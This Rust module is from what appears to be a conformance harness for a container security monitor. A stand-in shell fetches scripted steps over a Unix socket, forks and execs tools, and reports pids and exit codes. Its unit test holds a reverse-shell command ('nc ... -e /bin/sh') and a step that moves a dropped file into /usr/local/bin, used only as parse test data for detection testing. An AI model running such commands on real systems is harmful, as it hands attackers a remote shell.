//! The conformance session's processes inside a container (issue 12,
//! item 5), and the lines they exchange with the guest
//! ([`crate::conformance`]).
//!
//! Every program of the session is the agent binary hard-linked under the
//! tool's name (`/bin/bash`, `/usr/bin/nsenter`, ...), so that an exec
//! document carries the program's own name and the arguments it was
//! called with. What the binary does is chosen by its environment, never
//! by its arguments (those are the tool's):
//!
//! - started by the container runtime (`ctr tasks exec`, as `kubectl exec`
//!   does: the container's environment, [`crate::link::LINK_ENV`] in it)
//!   with arguments that are no subcommand of the agent: the session's
//!   **shell** ([`session_main`]). It connects to the guest's socket
//!   ([`SOCKET_NAME`]), says `hello session`, reads its script (one
//!   [`Step`] a line, then `end`), and runs each step as a shell would: a
//!   tool is forked and exec'd with its argument vector; a file the shell
//!   writes itself (a redirection) is written by a forked child. It
//!   reports `done INDEX PID CODE` per step and `bye`, and exits 0 when
//!   every step's status was 0.
//! - with [`STEP_ENV`] set (a tool the shell exec'd): says `hello step
//!   INDEX`, waits for `ok`, exits 0 ([`tool_main`]).
//!
//! The guest learns each process's pid from the socket (`SO_PEERCRED`,
//! in the guest's pid namespace: the pid the probes write), so which
//! activity made a document is known by who the process is, never by the
//! document's fields. Invariant: every read is bounded ([`REPLY_TIMEOUT`]).

use std::fs::File;
use std::os::fd::OwnedFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixStream};
use std::process::ExitCode;
use std::time::Duration;

use crate::ops::AgentOp;
use crate::protocol::{decode_text, encode, encode_op, parse_op, write_line, LineReader};
use crate::sys::{self, Exit};

/// The guest's listening socket, in the abstract namespace of the
/// network namespace the pods share with the guest (host network).
pub const SOCKET_NAME: &[u8] = b"d4c-vmtest-conformance";
/// The environment variable naming a tool's step (its index in the
/// script), set by the shell for the tools it runs.
pub const STEP_ENV: &str = "D4C_VMTEST_STEP";
/// How long a session process waits for the guest's next line.
pub const REPLY_TIMEOUT: Duration = Duration::from_secs(30);

/// One step of a session's script: what the activity's process does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Step {
    /// Fork, then exec `path` with `argv` (`argv[0]` the tool's name as a
    /// shell passes it).
    Run {
        /// The executable, a path inside the container.
        path: String,
        /// The argument vector.
        argv: Vec<String>,
    },
    /// Fork; the child performs `op` (a file the shell itself writes, as
    /// for a redirection) and exits with its errno.
    Op(AgentOp),
}

impl Step {
    /// The step as one line: `run PATH ARG...` or `op OPLINE`, each field
    /// [`encode`]d.
    pub fn to_line(&self) -> String {
        match self {
            Step::Run { path, argv } => std::iter::once("run".to_string())
                .chain(std::iter::once(path).chain(argv).map(|s| encode(s.as_bytes())))
                .collect::<Vec<_>>()
                .join(" "),
            Step::Op(op) => format!("op {}", encode(encode_op(op).as_bytes())),
        }
    }

    /// Inverse of [`Step::to_line`].
    pub fn parse(line: &str) -> Result<Step, String> {
        let fields: Vec<&str> = line.split(' ').collect();
        match fields.as_slice() {
            ["run", path, argv @ ..] if !argv.is_empty() => Ok(Step::Run {
                path: decode_text(path)?,
                argv: argv.iter().map(|a| decode_text(a)).collect::<Result<_, _>>()?,
            }),
            ["op", op] => Ok(Step::Op(parse_op(&decode_text(op)?.split(' ').collect::<Vec<_>>())?)),
            _ => Err(format!("not a step: `{line}`")),
        }
    }
}

/// The first line a session process sends.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Hello {
    /// `hello session`: the shell, which the guest answers with its script.
    Session,
    /// `hello step INDEX`: the process of step INDEX (a tool, or the child
    /// writing a file), answered `ok`.
    Step(usize),
}

impl Hello {
    /// The line, without the newline.
    pub fn to_line(&self) -> String {
        match self {
            Hello::Session => "hello session".to_string(),
            Hello::Step(index) => format!("hello step {index}"),
        }
    }

    /// Inverse of [`Hello::to_line`].
    pub fn parse(line: &str) -> Result<Hello, String> {
        match line.split(' ').collect::<Vec<_>>().as_slice() {
            ["hello", "session"] => Ok(Hello::Session),
            ["hello", "step", n] => n.parse().map(Hello::Step).map_err(|_| format!("bad step `{n}`")),
            _ => Err(format!("not a greeting: `{line}`")),
        }
    }
}

/// What the shell reports of step INDEX: `done INDEX PID CODE`, PID as
/// the container numbers it, CODE the exit status (128 + signal).
pub(crate) fn done_line(index: usize, pid: i32, exit: Exit) -> String {
    let code = match exit {
        Exit::Code(c) => c,
        Exit::Signal(s) => 128 + s,
    };
    format!("done {index} {pid} {code}")
}

/// Whether this process is a session's program (by its environment), and
/// if so runs it: `Some(exit status)`; `None` when it is not (the agent's
/// subcommands decide).
pub fn stand_in_main(args: &[String]) -> Option<ExitCode> {
    if let Ok(step) = std::env::var(STEP_ENV) {
        return Some(tool_main(&step));
    }
    let subcommand = args.first().is_some_and(|a| ["agent", "stage", "noop", "pause"].contains(&a.as_str()));
    if std::env::var_os(crate::link::LINK_ENV).is_some() && !subcommand {
        return Some(session_main());
    }
    None
}

/// Connects to the guest and says `hello`. Returns the reader and writer.
fn greet(hello: &Hello) -> Result<(LineReader, File), String> {
    let addr = SocketAddr::from_abstract_name(SOCKET_NAME).map_err(|e| format!("socket name: {e}"))?;
    let stream = UnixStream::connect_addr(&addr).map_err(|e| format!("connecting to the guest: {e}"))?;
    let mut out = File::from(OwnedFd::from(stream.try_clone().map_err(|e| e.to_string())?));
    write_line(&mut out, &hello.to_line()).map_err(|e| format!("saying hello: {e}"))?;
    Ok((LineReader::new(OwnedFd::from(stream)), out))
}

/// The guest's next line.
fn next(input: &mut LineReader) -> Result<String, String> {
    match input.read_line(REPLY_TIMEOUT) {
        Ok(Some(line)) => Ok(line),
        Ok(None) => Err("the guest closed the connection".to_string()),
        Err(e) => Err(format!("waiting for the guest: {e}")),
    }
}

/// Says `hello step INDEX` and waits for `ok`.
fn announce_step(index: usize) -> Result<(), String> {
    let (mut input, _out) = greet(&Hello::Step(index))?;
    match next(&mut input)?.as_str() {
        "ok" => Ok(()),
        other => Err(format!("the guest said `{other}`")),
    }
}

/// A tool of the session: announces itself, exits 0 (1 when the guest
/// could not be told: the check then misses this process and fails).
fn tool_main(step: &str) -> ExitCode {
    match step.parse().map_err(|_| format!("bad {STEP_ENV} `{step}`")).and_then(announce_step) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("d4c-vmtest tool: {e}");
            ExitCode::FAILURE
        }
    }
}

/// The session's shell (see the module doc).
fn session_main() -> ExitCode {
    match run_session() {
        Ok(true) => ExitCode::SUCCESS,
        Ok(false) => ExitCode::FAILURE,
        Err(e) => {
            eprintln!("d4c-vmtest session: {e}");
            ExitCode::from(2)
        }
    }
}

fn run_session() -> Result<bool, String> {
    let (mut input, mut out) = greet(&Hello::Session)?;
    let mut steps = Vec::new();
    loop {
        let line = next(&mut input)?;
        if line == "end" {
            break;
        }
        steps.push(Step::parse(&line)?);
    }
    let mut all_ok = true;
    for (index, step) in steps.iter().enumerate() {
        let (pid, exit) = run_step(index, step)?;
        all_ok &= exit == Exit::Code(0);
        write_line(&mut out, &done_line(index, pid, exit)).map_err(|e| format!("reporting step {index}: {e}"))?;
    }
    write_line(&mut out, "bye").map_err(|e| format!("saying bye: {e}"))?;
    Ok(all_ok)
}

/// Runs one step in a child; returns its pid and how it ended.
fn run_step(index: usize, step: &Step) -> Result<(i32, Exit), String> {
    let c = |s: &str| std::ffi::CString::new(s).map_err(|_| format!("`{s}` contains NUL"));
    match step {
        Step::Run { path, argv } => {
            let args = argv.iter().map(|a| c(a)).collect::<Result<Vec<_>, _>>()?;
            // The tool's environment names only its step (and PATH, as a
            // shell's children have it).
            let env = [c(&format!("{STEP_ENV}={index}"))?, c(crate::image::PATH_ENV)?];
            sys::fork_exec_env_wait(&c(path)?, &args, &env).map_err(|e| format!("step {index}: fork: {e}"))
        }
        Step::Op(op) => sys::fork_run_wait(|| {
            // The child: announce, then the op; its errno is its status.
            if let Err(e) = announce_step(index) {
                eprintln!("d4c-vmtest session: step {index}: {e}");
                return 126;
            }
            match crate::agent::perform_plain(op) {
                Ok(_) => 0,
                Err((errno, detail)) => {
                    eprintln!("d4c-vmtest session: step {index}: {detail}");
                    errno.clamp(1, 125)
                }
            }
        })
        .map_err(|e| format!("step {index}: fork: {e}")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn steps_and_greetings_read_back() -> Result<(), String> {
        let steps = [
            Step::Run {
                path: "/bin/sh".into(),
                argv: vec!["sh".into(), "-c".into(), "nc 10.0.0.9 4444 -e /bin/sh".into()],
            },
            Step::Run { path: "/usr/sbin/nginx".into(), argv: vec!["nginx".into(), "-g".into(), "daemon off;".into()] },
            Step::Op(AgentOp::Sequence(vec![
                AgentOp::Create { path: "/tmp/kit".into(), mode: 0o755 },
                AgentOp::Rename { from: "/tmp/kit".into(), to: "/usr/local/bin/kit".into() },
            ])),
        ];
        for step in steps {
            assert_eq!(Step::parse(&step.to_line())?, step);
        }
        assert!(Step::parse("run /bin/sh").is_err(), "a run step needs an argument vector");
        for hello in [Hello::Session, Hello::Step(7)] {
            assert_eq!(Hello::parse(&hello.to_line())?, hello);
        }
        assert_eq!(done_line(3, 42, Exit::Signal(9)), "done 3 42 137");
        Ok(())
    }
}
